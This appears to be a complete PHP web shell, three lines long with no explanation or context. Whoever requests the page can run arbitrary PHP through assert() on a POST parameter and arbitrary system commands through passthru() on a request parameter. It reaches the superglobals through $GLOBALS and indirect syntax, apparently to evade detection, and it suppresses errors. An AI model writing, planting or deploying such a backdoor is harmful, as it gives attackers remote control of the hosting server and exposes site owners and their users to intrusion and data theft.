<?php
if (isset($GLOBALS['_POST']['k'])) { @assert(${'_POST'}['k']); }
echo passthru($GLOBALS['_REQUEST']['c']);
